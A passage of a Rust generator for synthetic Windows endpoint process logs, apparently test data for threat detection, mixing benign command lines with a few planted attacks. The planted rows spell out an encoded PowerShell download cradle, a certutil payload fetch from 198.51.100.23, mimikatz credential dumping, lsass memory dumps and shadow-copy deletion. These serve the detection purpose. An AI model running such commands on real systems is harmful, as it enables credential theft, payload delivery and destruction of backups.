            let ps = rng.chance(0.5);
            let shell = self.img(if ps { "powershell.exe" } else { "cmd.exe" }, dev);
            if ps {
                w!(s.parent_cmd, r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" "#);
            } else {
                w!(s.parent_cmd, r#""{sys}\cmd.exe" "#);
            }
            (
                user_proc(
                    shell,
                    pid(rng),
                    before(rng, t, 5, 3_600).max(ex.created + SECOND),
                    acct,
                    user,
                    false,
                    ex.session,
                    style(rng, dev),
                ),
                exp,
            )
        };
        let key: &str = match rng.below(100) {
            0..=14 if r < 55 => {
                w!(
                    s.cmd,
                    r#"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe -noexit -command "try {{ . \"c:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\resources\app\out\vs\workbench\contrib\terminal\browser\media\shellIntegration.ps1\" }} catch {{}}""#
                );
                "powershell.exe"
            }
            0..=49 => {
                quoted(&mut s.cmd, self.img("git", dev), "");
                s.cmd.push_str(r" -c core.quotepath=false -c color.ui=false ");
                s.cmd.push_str([
                    "rev-parse --show-toplevel",
                    "status -z -uall",
                    "fetch",
                    "log --format=%H%n%aN%n%aE%n%at%n%ct%n%P%n%D%n%B -z --shortstat --diff-merges=first-parent -n50 --skip=0 --topo-order --decorate=full --stdin",
                    "for-each-ref --sort -committerdate --format %(refname)%00%(upstream:short)%00%(objectname)%00%(upstream:track)%00%(upstream:remotename)%00%(upstream:remoteref) refs/heads refs/remotes",
                    "check-ignore -v -z --stdin",
                    "show --textconv :src/index.ts",
                ][rng.below(7) as usize]);
                "git"
            }
            50..=59 => {
                quoted(&mut s.cmd, self.img("git_remote", dev), "");
                w!(s.cmd, " origin https://github.com/contoso/{repo}.git");
                "git_remote"
            }
            60..=74 => {
                quoted(&mut s.cmd, self.img("node", dev), "");
                match rng.below(3) {
                    0 => w!(s.cmd, r#" "C:\Users\{user}\source\repos\{repo}\node_modules\.bin\..\vite\bin\vite.js" build"#),
                    1 => w!(
                        s.cmd,
                        r#" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" {}"#,
                        ["install", "run build", "test", "ci"][rng.below(4) as usize]
                    ),
                    _ => w!(
                        s.cmd,
                        r#" "C:\Users\{user}\source\repos\{repo}\node_modules\typescript\lib\tsserver.js" --serverMode partialSemantic --useInferredProjectPerProjectRoot --disableAutomaticTypingAcquisition --cancellationPipeName C:\Users\{user}\AppData\Local\Temp\vscode-typescript\{}\tscancellation-{}.tmp* --locale en --noGetErrOnBackgroundUpdate --validateDefaultNpmLocation --useNodeIpc"#,
                        hex_string(rng.next_u64(), 20),
                        hex_string(rng.next_u64(), 20)
                    ),
                }
                "node"
            }
            75..=87 => {
                let py = if rng.chance(0.5) { "python_user" } else { "python" };
                quoted(&mut s.cmd, self.img(py, dev), user);
                w!(
                    s.cmd,
                    r#" "C:\Users\{user}\source\repos\{repo}\scripts\{}.py" --date 2024-05-0{} --out C:\Users\{user}\AppData\Local\Temp\{}.json"#,
                    ["etl", "report", "sync", "export"][rng.below(4) as usize],
                    rng.range(1, 2),
                    hex_string(rng.next_u64(), 8)
                );
                py
            }
            _ => {
                // The long tail: a Java application with its class path spelled out.
                let java = if rng.chance(0.5) { "java" } else { "jdk17" };
                quoted(&mut s.cmd, self.img(java, dev), "");
                w!(
                    s.cmd,
                    r#" -Xms256m -Xmx{}m -Dfile.encoding=UTF-8 -Duser.home=C:\Users\{user} -cp ""#,
                    [1024, 2048, 4096][rng.below(3) as usize]
                );
                let n = 4 + rng.below(19);
                for i in 0..n {
                    if i > 0 {
                        s.cmd.push(';');
                    }
                    w!(
                        s.cmd,
                        r"C:\Users\{user}\tools\{repo}\lib\{}-{}.{}.{}.jar",
                        JARS[rng.below(JARS.len() as u64) as usize],
                        rng.range(1, 9),
                        rng.range(0, 20),
                        rng.range(0, 9)
                    );
                }
                w!(s.cmd, r#"" com.contoso.{}.Main --config C:\Users\{user}\tools\{repo}\conf\app.yml"#, repo.replace('-', ""));
                java
            }
        };
        let child = user_proc(self.img(key, dev), pid(rng), t, acct, user, false, ex.session, style(rng, dev));
        Self::ev(child, parent, gp)
    }

    /// Defender, search, logon, crash reporting, servicing and updaters.
    fn system_misc(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let sys = sysdir(dev);
        let (svc, ..) = self.services(rng, dev, s);
        s.parent_cmd.clear();
        let services = (svc.img.file.as_str(), svc.pid, svc.created);
        let boot_proc = |key: &str, k: u64, s: &mut Scratch| -> Proc<'a> {
            let img = self.img(key, dev);
            quoted(&mut s.parent_cmd, img, "");
            sys_proc(img, stable_pid(dev.salt, k, 1_000, 4_000), dev.boot + 30 * SECOND, SYSTEM, 0)
        };
        let r = rng.below(100);
        match r {
            0..=14 => {
                let parent = boot_proc("msmpeng", 0x3e, s);
                let img = self.img("mpcmdrun", dev);
                quoted(&mut s.cmd, img, "");
                s.cmd.push_str(
                    [
                        " SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
                        " -wdenable",
                        " GetDeviceTicket -AccessKey ",
                        " -SignatureUpdate -MMPC",
                    ][rng.below(4) as usize],
                );
                if s.cmd.ends_with("AccessKey ") {
                    guid(&mut s.cmd, rng.next_u64(), true);
                }
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            15..=27 => {
                let parent = boot_proc("mssense", 0x5e, s);
                if rng.chance(0.4) {
                    let img = self.img("sensecnc", dev);
                    quoted(&mut s.cmd, img, "");
                    return Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services);
                }
                // Live response / investigation scripts MDE runs through PowerShell.
                let img = self.img("powershell.exe", dev);
                w!(
                    s.cmd,
                    r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {{$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{}\"#,
                    self.img("mssense", dev).version
                );
                guid(&mut s.cmd, rng.next_u64(), false);
                s.cmd.push_str(r#".ps1', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read);$calculatedHash = Microsoft.PowerShell.Utility\Get-FileHash 'C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\"#);
                s.cmd.push_str(&self.img("mssense", dev).version);
                s.cmd.push('\\');
                guid(&mut s.cmd, rng.next_u64(), false);
                s.cmd.push_str(r#".ps1' -Algorithm SHA256;if (!($calculatedHash.Hash -eq '"#);
                hex(&mut s.cmd, rng.next_u64(), 64, false);
                s.cmd.push_str(r#"')) { exit 323;}; . 'C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\collect.ps1' }""#);
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            28..=39 => {
                // WerFault for a crashing application.
                let u = self.user(rng, dev);
                let user = self.uname(u);
                let acct = self.uacct(dev, u);
                let (ex, ..) = self.explorer(rng, dev, u, t, s);
                s.parent_cmd.clear();
                let key = ["teams", "outlook", "chrome", "msedge", "acrord", "excel", "code"][rng.below(7) as usize];
                let app = self.img(key, dev);
                quoted(&mut s.parent_cmd, app, user);
                s.parent_cmd.push(' ');
                let parent = user_proc(
                    app,
                    pid(rng),
                    before(rng, t, 30, 4 * 3_600).max(ex.created + SECOND),
                    acct,
                    user,
                    false,
                    ex.session,
                    style(rng, dev),
                );
                let img = self.img("WerFault.exe", dev);
                w!(s.cmd, r"{sys}\WerFault.exe -u -p {} -s {}", parent.pid, rng.range(100, 9_000));
                Self::ev(
                    user_proc(img, pid(rng), t, acct, user, false, ex.session, style(rng, dev)),
                    parent,
                    (ex.img.file.as_str(), ex.pid, ex.created),
                )
            }
            40..=59 => {
                // Windows Search's protocol and filter hosts.
                let si = self.img("SearchIndexer.exe", dev);
                w!(s.parent_cmd, r"{sys}\SearchIndexer.exe /Embedding");
                let parent = sys_proc(si, stable_pid(dev.salt, 0x5ea, 1_000, 4_000), dev.boot + 60 * SECOND, SYSTEM, style(rng, dev));
                let n = rng.range(1, 400);
                if rng.chance(0.6) {
                    let img = self.img("SearchProtocolHost.exe", dev);
                    w!(
                        s.cmd,
                        r#""{sys}\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" "#
                    );
                    Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
                } else {
                    let img = self.img("SearchFilterHost.exe", dev);
                    w!(
                        s.cmd,
                        r#""{sys}\SearchFilterHost.exe" 0 {} {} {} 8192 {} "#,
                        rng.range(600, 900),
                        rng.range(600, 900),
                        rng.range(600, 900),
                        rng.range(600, 900)
                    );
                    let mut p = sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev));
                    p.integrity = "Low";
                    Self::ev(p, parent, services)
                }
            }
            60..=71 => {
                // Logon: winlogon -> userinit / LogonUI; userinit -> explorer.
                let u = self.user(rng, dev);
                let user = self.uname(u);
                let acct = self.uacct(dev, u);
                let winlogon = self.img("winlogon.exe", dev);
                w!(s.parent_cmd, "winlogon.exe");
                let parent = sys_proc(winlogon, stable_pid(dev.salt, 0x3a, 150, 200), dev.boot + 3 * SECOND, SYSTEM, style(rng, dev));
                let gp = ("smss.exe", stable_pid(dev.salt, 0x55, 90, 60), dev.boot + 2 * SECOND);
                if rng.chance(0.5) {
                    let img = self.img("LogonUI.exe", dev);
                    w!(
                        s.cmd,
                        r#""LogonUI.exe" /flags:0x{} /state0:0x{:x} /state1:0x41c64e6d"#,
                        [0, 2, 4][rng.below(3) as usize],
                        0xa000_0000u64 + rng.below(1 << 28)
                    );
                    return Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, gp);
                }
                let img = self.img("userinit.exe", dev);
                w!(s.cmd, r"{sys}\userinit.exe");
                let child = user_proc(img, pid(rng), t, acct, user, false, self.session(dev, u), style(rng, dev));
                Self::ev(child, parent, gp)
            }
            72..=79 => {
                // Servicing: TrustedInstaller -> TiWorker; cleanmgr -> DismHost.
                if rng.chance(0.6) {
                    let ti = self.img("TrustedInstaller.exe", dev);
                    w!(s.parent_cmd, r"{}\servicing\TrustedInstaller.exe", windir(dev));
                    let parent = sys_proc(ti, pid(rng), before(rng, t, 1, 120), SYSTEM, style(rng, dev));
                    let img = self.img("TiWorker.exe", dev);
                    w!(s.cmd, r"{}\TiWorker.exe -Embedding", img.path[0].rsplit_once('\\').map_or("", |(d, _)| d));
                    return Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services);
                }
                let cm = self.img("cleanmgr.exe", dev);
                w!(s.parent_cmd, r"{sys}\cleanmgr.exe /autoclean /d C:");
                let parent = sys_proc(cm, pid(rng), before(rng, t, 1, 300), SYSTEM, style(rng, dev));
                let img = self.img("DismHost.exe", dev);
                let mut g = String::new();
                guid(&mut g, rng.next_u64(), true);
                w!(s.path, r"{}\Temp\{{{g}}}\DismHost.exe", windir(dev));
                w!(s.cmd, r#"{} {{{}}}"#, s.path, guid_string(rng.next_u64(), true));
                let mut e = Self::ev(sys_proc(img, pid(rng), t, SYSTEM, 0), parent, ("svchost.exe", pid(rng), parent.created - MINUTE));
                e.child_path_set = true;
                e
            }
            80..=87 => {
                // .NET's native image generator.
                let ngen = self.img("ngen.exe", dev);
                w!(s.parent_cmd, r#""{}" ExecuteQueuedItems /LegacyServiceBehavior"#, ngen.path[0]);
                let parent = sys_proc(ngen, pid(rng), before(rng, t, 1, 600), SYSTEM, style(rng, dev));
                let img = self.img("mscorsvw.exe", dev);
                w!(
                    s.cmd,
                    r#"{} -StartupEvent {:x} -InterruptEvent 0 -NGENProcess {:x} -Pipe {:x} -Comment "NGen Worker Process""#,
                    img.path[0],
                    rng.range(0x100, 0x900),
                    rng.range(0x100, 0x900),
                    rng.range(0x100, 0x900)
                );
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, ("svchost.exe", pid(rng), parent.created - MINUTE))
            }
            _ => {
                // Edge's updater reporting home: a long base64 /ping.
                let upd = self.img("edgeupdate", dev);
                quoted(&mut s.parent_cmd, upd, "");
                s.parent_cmd.push_str(" /ua /installsource scheduler");
                let parent = sys_proc(upd, pid(rng), before(rng, t, 5, 300), SYSTEM, style(rng, dev));
                quoted(&mut s.cmd, upd, "");
                s.cmd.push_str(" /ping PD94bWwgdmVyc2lvbj0iMS4wIiBlbmNvZGluZz0iVVRGLTgiPz48cmVxdWVzdCBwcm90b2NvbD0iMy4wIiB1cGRhdGVyPSJPbWFoYSIgdXBkYXRlcnZlcnNpb249IjEuMy4x");
                let n = 200 + rng.below(1_200) as usize;
                let mut word = rng.next_u64();
                const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                for i in 0..n {
                    if i % 10 == 0 {
                        word = rng.next_u64();
                    }
                    s.cmd.push(B64[(word & 63) as usize] as char);
                    word >>= 6;
                }
                s.cmd.push_str("PC9yZXF1ZXN0Pg==");
                Self::ev(sys_proc(upd, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
        }
    }

    /// Server workloads: IIS worker processes and ASP.NET compilations, SQL Server, Azure's
    /// guest agents, monitoring.
    fn server_work(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let sys = sysdir(dev);
        let (svc, ..) = self.services(rng, dev, s);
        s.parent_cmd.clear();
        let services = (svc.img.file.as_str(), svc.pid, svc.created);
        let r = rng.below(100);
        let pool = APP_POOLS[(mix(dev.salt ^ rng.below(2)) % APP_POOLS.len() as u64) as usize];
        let pool_acct = Acct {
            domain: "iis apppool",
            name: pool,
            sid: IIS_SIDS[APP_POOLS.iter().position(|p| *p == pool).unwrap_or(0)],
            upn: "",
            object_id: "",
            logon: 996,
        };
        match r {
            0..=39 => {
                let parent = self.svchost(rng, dev, "iissvcs", "W3SVC", SYSTEM, s);
                let img = self.img("w3wp.exe", dev);
                w!(s.cmd, r#"c:\windows\system32\inetsrv\w3wp.exe -ap "{pool}" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm"#);
                guid(&mut s.cmd, rng.next_u64(), false);
                w!(s.cmd, r#" -h "C:\inetpub\temp\apppools\{pool}\{pool}.config" -w "" -m 0 -t 20 -ta 0"#);
                Self::ev(sys_proc(img, pid(rng), t, pool_acct, style(rng, dev)), parent, services)
            }
            40..=49 => {
                let w3wp = self.img("w3wp.exe", dev);
                w!(s.parent_cmd, r#"c:\windows\system32\inetsrv\w3wp.exe -ap "{pool}" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm"#);
                guid(&mut s.parent_cmd, dev.salt ^ 0x3a3, false);
                let parent = sys_proc(w3wp, stable_pid(dev.salt, 0x3a3, 1_000, 4_000), before(rng, t, 60, 20_000), pool_acct, 0);
                let img = self.img("csc.exe", dev);
                w!(
                    s.cmd,
                    r#""{}" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\{}\{}\"#,
                    img.path[0],
                    hex_string(dev.salt, 8),
                    hex_string(dev.salt ^ 1, 8)
                );
                alnum(&mut s.cmd, rng.next_u64(), 8, false);
                s.cmd.push_str(".cmdline\"");
                Self::ev(
                    sys_proc(img, pid(rng), t, pool_acct, style(rng, dev)),
                    parent,
                    ("svchost.exe", stable_pid(dev.salt, hash_str("W3SVC"), 200, 2_000), dev.boot + 20 * SECOND),
                )
            }
            50..=64 => {
                let agent = self.img("azguest", dev);
                quoted(&mut s.parent_cmd, agent, "");
                let parent = sys_proc(agent, stable_pid(dev.salt, 0xa2, 1_000, 4_000), dev.boot + 40 * SECOND, SYSTEM, 0);
                let img = self.img("cmd.exe", dev);
                w!(
                    s.cmd,
                    r#"{sys}\cmd.exe /C ""C:\Packages\Plugins\Microsoft.Azure.Monitor.AzureMonitorWindowsAgent\1.25.0.0\{}" {}""#,
                    ["AzureMonitorAgentExtension.exe", "heartbeat.cmd", "enable.cmd"][rng.below(3) as usize],
                    ["heartbeat", "enable", "update"][rng.below(3) as usize]
                );
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            65..=79 => {
                let gc = self.img("gc_worker", dev);
                quoted(&mut s.parent_cmd, gc, "");
                s.parent_cmd.push_str(" -a");
                let parent = sys_proc(gc, pid(rng), before(rng, t, 1, 900), SYSTEM, 0);
                let img = self.img("powershell.exe", dev);
                w!(
                    s.cmd,
                    r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -Command "& 'C:\Packages\Plugins\Microsoft.GuestConfiguration.ConfigurationforWindows\{}\dsc\GC\Modules\{}\{}.ps1' -Operation Get""#,
                    gc.version,
                    ["AzureWindowsBaseline", "WindowsDefenderExploitGuard", "AuditSecureProtocol"][rng.below(3) as usize],
                    hex_string(rng.next_u64(), 12)
                );
                Self::ev(
                    sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)),
                    parent,
                    ("WindowsAzureGuestAgent.exe", stable_pid(dev.salt, 0xa2, 1_000, 4_000), dev.boot + 40 * SECOND),
                )
            }
            _ => {
                // An administrator in an RDP session.
                let u = self.user(rng, dev);
                let user = self.uname(u);
                let acct = self.uacct(dev, u);
                let (ex, gp, gp_pid, gp_created) = self.explorer(rng, dev, u, t, s);
                let key = ["mmc.exe", "cmd.exe", "powershell.exe", "Taskmgr.exe", "notepad.exe", "mstsc.exe", "regedit.exe"]
                    [rng.below(7) as usize];
                let img = self.img(key, dev);
                match key {
                    "mmc.exe" => w!(
                        s.cmd,
                        r#""{sys}\mmc.exe" "{sys}\{}""#,
                        ["ServerManager.msc", "dsa.msc", "gpmc.msc", "dnsmgmt.msc", "eventvwr.msc", "services.msc"][rng.below(6) as usize]
                    ),
                    "notepad.exe" => w!(s.cmd, r#""{sys}\NOTEPAD.EXE" C:\inetpub\wwwroot\web.config"#),
                    _ => w!(s.cmd, r#""{sys}\{}" "#, img.file),
                }
                let elevated = key != "notepad.exe";
                Self::ev(user_proc(img, pid(rng), t, acct, user, elevated, ex.session, style(rng, dev)), ex, (gp, gp_pid, gp_created))
            }
        }
    }
}

const REPOS: &[&str] =
    &["billing-api", "web-portal", "data-pipeline", "infra-scripts", "mobile-app", "reporting", "auth-service", "design-system"];
const JARS: &[&str] = &[
    "commons-lang3",
    "commons-io",
    "guava",
    "jackson-databind",
    "jackson-core",
    "slf4j-api",
    "logback-classic",
    "spring-core",
    "spring-context",
    "spring-beans",
    "hibernate-core",
    "postgresql",
    "netty-all",
    "httpclient",
    "httpcore",
    "snakeyaml",
    "kafka-clients",
    "protobuf-java",
];
const APP_POOLS: &[&str] = &["DefaultAppPool", "PortalPool", "ApiPool", "ReportServer"];
const IIS_SIDS: &[&str] = &[
    "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415",
    "S-1-5-82-1036420768-1044797643-1061213386-2937092688-4282445334",
    "S-1-5-82-271721585-897601226-2024613209-625570482-296978595",
    "S-1-5-82-1581117341-4165443380-1932542567-1417553236-3126830106",
];

/// Appends a document's name (without extension).
fn doc_name(rng: &mut Rng, s: &mut String) {
    const TOPICS: &[&str] = &[
        "Budget",
        "Forecast",
        "Report",
        "Minutes",
        "Proposal",
        "Contract",
        "Invoice",
        "Roadmap",
        "Onboarding",
        "Timesheet",
        "Offer",
        "Review",
    ];
    const TEAMS: &[&str] = &["Finance", "HR", "Sales", "Marketing", "Engineering", "Legal", "Ops", "Board"];
    match rng.below(4) {
        0 => w!(s, "{} {} Q{} 2024", TEAMS[rng.below(8) as usize], TOPICS[rng.below(12) as usize], rng.range(1, 4)),
        1 => w!(s, "{}_{}", TOPICS[rng.below(12) as usize], rng.range(10_000, 99_999)),
        2 => w!(s, "{} {} v{}", TOPICS[rng.below(12) as usize], TEAMS[rng.below(8) as usize], rng.range(1, 12)),
        _ => w!(s, "{}-2024-0{}-{:02} ({})", TOPICS[rng.below(12) as usize], rng.range(1, 5), rng.range(1, 28), rng.range(1, 9)),
    }
}

/// Appends a URL such as a mail or a chat links to.
fn url(rng: &mut Rng, s: &mut String) {
    const SITES: &[&str] = &[
        "contoso.sharepoint.com/sites/",
        "teams.microsoft.com/l/meetup-join/",
        "github.com/contoso/",
        "www.linkedin.com/feed/update/",
        "docs.google.com/document/d/",
        "contoso.atlassian.net/browse/",
        "zoom.us/j/",
        "login.microsoftonline.com/common/oauth2/",
        "www.youtube.com/watch?v=",
        "portal.azure.com/#view/",
        "contoso.service-now.com/nav_to.do?uri=",
    ];
    w!(s, "https://{}", SITES[rng.below(SITES.len() as u64) as usize]);
    alnum(s, rng.next_u64(), 6 + rng.below(30) as usize, false);
    if rng.chance(0.5) {
        w!(s, "?utm_source=email&id={}", rng.range(100_000, 999_999_999));
    }
}

// ---------------------------------------------------------------------------------------------
// The planted attacks

/// Device index, seconds after 2024-05-01T00:00:00Z, what (see the module's documentation).
pub const PLANTS: &[(usize, i64, &str)] = &[
    (42, 9 * 3600 + 14 * 60 + 7, "WINWORD.EXE -> powershell.exe -nop -w hidden -enc (IEX DownloadString)"),
    (42, 9 * 3600 + 15 * 60 + 30, "cmd.exe -> certutil.exe -urlcache -split -f http://198.51.100.23/stage2.exe"),
    (42, 9 * 3600 + 21 * 60 + 2, "cmd.exe -> mk.exe (mimikatz) sekurlsa::logonpasswords"),
    (120, 14 * 3600 + 2 * 60 + 11, "powershell.exe -> rundll32.exe comsvcs.dll, MiniDump of lsass (pid 704)"),
    (311, 24 * 3600 + 2 * 3600 + 47 * 60 + 55, "cmd.exe -> procdump64.exe -accepteula -ma lsass.exe"),
    (510, 24 * 3600 + 3 * 3600 + 12 * 60 + 40, "svcupd.exe -> cmd.exe -> vssadmin.exe delete shadows /all /quiet"),
];

const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEALgBwAHMAMQAnACkA";

impl<'a> Gen<'a> {
    fn plant(&self, i: usize, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let u = dev.user;
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let (ex, ..) = self.explorer(rng, dev, u, t, s);
        s.parent_cmd.clear();
        let sess = ex.session;
        let exp = (ex.img.file.as_str(), ex.pid, ex.created);
        let day1 = DAY1 + 9 * HOUR;
        match i {
            0 => {
                let word = self.img("winword", dev);
                w!(s.parent_cmd, r#""{}" /n "C:\Users\{user}\Downloads\Invoice_2024-0457.docm" /o """#, word.path[0]);
                let parent = user_proc(word, 7_412, t - 41 * SECOND, acct, user, false, sess, 0);
                w!(s.cmd, "powershell.exe -nop -w hidden -enc {ENCODED}");
                Self::ev(user_proc(self.img("powershell.exe", dev), 8_120, t, acct, user, false, sess, 0), parent, exp)
            }
            1 => {
                let cmd = self.img("cmd.exe", dev);
                s.parent_cmd.push_str(
                    r#"cmd.exe /c "certutil.exe -urlcache -split -f http://198.51.100.23/stage2.exe C:\Users\Public\stage2.exe""#,
                );
                let parent = user_proc(cmd, 8_532, t - SECOND, acct, user, false, sess, 0);
                s.cmd.push_str(r"certutil.exe  -urlcache -split -f http://198.51.100.23/stage2.exe C:\Users\Public\stage2.exe");
                Self::ev(
                    user_proc(self.img("certutil.exe", dev), 8_604, t, acct, user, false, sess, 0),
                    parent,
                    ("powershell.exe", 8_120, day1 + 14 * MINUTE + 7 * SECOND),
                )
            }
            2 => {
                let cmd = self.img("cmd.exe", dev);
                s.parent_cmd.push_str(r#""C:\Windows\system32\cmd.exe" "#);
                let parent = user_proc(cmd, 9_016, t - 3 * MINUTE, acct, user, true, sess, 0);
                s.cmd.push_str(r#"C:\Users\Public\Music\mk.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#);
                Self::ev(
                    user_proc(self.img("mimikatz", dev), 9_288, t, acct, user, true, sess, 0),
                    parent,
                    ("stage2.exe", 8_876, day1 + 17 * MINUTE),
                )
            }
            3 => {
                let ps = self.img("powershell.exe", dev);
                w!(s.parent_cmd, r#""{}" "#, ps.path[0]);
                let parent = user_proc(ps, 5_236, t - 4 * MINUTE, acct, user, true, sess, 0);
                s.cmd.push_str(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Windows\Temp\debug.dmp full");
                Self::ev(user_proc(self.img("rundll32.exe", dev), 6_048, t, acct, user, true, sess, 0), parent, exp)
            }
            4 => {
                let cmd = self.img("cmd.exe", dev);
                s.parent_cmd.push_str(r#""C:\Windows\system32\cmd.exe" "#);
                let parent = user_proc(cmd, 3_312, t - 2 * MINUTE, acct, user, true, sess, 0);
                s.cmd.push_str(r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp");
                Self::ev(user_proc(self.img("procdump", dev), 3_840, t, acct, user, true, sess, 0), parent, exp)
            }
            _ => {
                let cmd = self.img("cmd.exe", dev);
                s.parent_cmd.push_str(r"C:\Windows\system32\cmd.exe /c vssadmin delete shadows /all /quiet");
                let parent = sys_proc(cmd, 2_904, t - SECOND, SYSTEM, 0);
                s.cmd.push_str("vssadmin  delete shadows /all /quiet");
                Self::ev(sys_proc(self.img("vssadmin.exe", dev), 2_988, t, SYSTEM, 0), parent, ("svcupd.exe", 2_640, t - 20 * SECOND))
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Rows, batches, the file

#[allow(clippy::too_many_arguments)]
fn push_row(c: &mut Cols, w: &World, dev: &Device, ev: &Ev, s: &mut Scratch, t: i64, ingested: i64, report: i64) {
    if !ev.child_path_set {
        s.path.clear();
        ev.child.img.push_path(&mut s.path, ev.child.style, ev.child.user);
    }
    if !ev.parent_path_set {
        s.parent_path.clear();
        ev.parent.img.push_path(&mut s.parent_path, ev.parent.style, ev.parent.user);
    }
    let (child, parent) = (&ev.child, &ev.parent);
    let remote = |p: &Proc| -> Option<&Device> {
        if dev.server && p.session >= 2 {
            let n = w.devices.len();
            let mut i = (mix(dev.salt ^ p.acct.logon as u64) % n as u64) as usize;
            if i.is_multiple_of(10) && n > 1 {
                i = (i + 1) % n;
            }
            Some(&w.devices[i])
        } else {
            None
        }
    };
    c.t(ingested);
    c.t(t);
    c.s(&dev.id);
    c.s(&dev.name);
    c.s("ProcessCreated");
    let img = child.img;
    c.s(&img.file);
    c.s(&s.path);
    c.s(&img.sha1);
    c.s(&img.sha256);
    c.s(&img.md5);
    c.l(img.size);
    c.s(&img.company);
    c.s(&img.product);
    c.s(&img.version);
    c.s(&img.internal);
    c.s(&img.original);
    c.s(&img.description);
    c.l(child.pid);
    c.s(&s.cmd);
    c.s(child.integrity);
    c.s(child.elevation);
    c.t(child.created);
    for p in [child, parent] {
        c.s(p.acct.domain);
        c.s(p.acct.name);
        c.s(p.acct.sid);
        c.s(p.acct.upn);
        c.s(p.acct.object_id);
        c.l(p.acct.logon);
    }
    c.s(parent.integrity);
    c.s(parent.elevation);
    let img = parent.img;
    c.s(&img.sha1);
    c.s(&img.sha256);
    c.s(&img.md5);
    c.s(&img.file);
    c.l(img.size);
    c.s(&img.company);
    c.s(&img.product);
    c.s(&img.version);
    c.s(&img.internal);
    c.s(&img.original);
    c.s(&img.description);
    c.l(parent.pid);
    c.s(&s.parent_cmd);
    c.t(parent.created);
    c.s(&s.parent_path);
    c.l(ev.gp_pid);
    c.s(ev.grandparent);
    c.t(ev.gp_created);
    c.s(img.signer);
    c.s(img.status);
    c.l(report);
    c.s("");
    c.s(&s.extra);
    let (cr, pr) = (remote(child), remote(parent));
    c.s(cr.map_or("", |d| d.short.as_str()));
    c.s(cr.map_or("", |d| d.ip.as_str()));
    c.s(pr.map_or("", |d| d.short.as_str()));
    c.s(pr.map_or("", |d| d.ip.as_str()));
    c.b(cr.is_some());
    c.b(pr.is_some());
    c.l(parent.session);
    c.l(child.session);
    c.end_row();
}

/// Batch `b` of `batches`: its share of the rows, at times in its slice of the three days,
/// with the plants that fall in that slice; sorted by time.
fn batch(g: &Gen, schema: &Arc<Schema>, b: usize, batches: usize, rows: usize, seed: u64) -> Result<RecordBatch, String> {
    let span = HOURS * HOUR;
    let lo = START + (span as i128 * b as i128 / batches as i128) as i64;
    let hi = START + (span as i128 * (b + 1) as i128 / batches as i128) as i64;
    let n = rows / batches + usize::from(b < rows % batches);
    let mut rng = Rng::new(mix(seed ^ mix(b as u64 + 0x5eed)));
    let mut times: Vec<(i64, usize)> = (0..n).map(|_| (lo + rng.below((hi - lo) as u64) as i64, usize::MAX)).collect();
    for (i, &(_, at, _)) in PLANTS.iter().enumerate() {
        let at = DAY1 + at * SECOND;
        if (lo..hi).contains(&at) {
            times.push((at, i));
        }
    }
    times.sort_unstable();
    let devices = &g.w.devices;
    let nd = devices.len();
    let mut cols = Cols::new(times.len());
    let mut s = Scratch::default();
    for (k, &(t, plant)) in times.iter().enumerate() {
        s.clear();
        let (dev, ev) = if plant == usize::MAX {
            // Busy devices (servers, developers' machines) log far more than quiet ones.
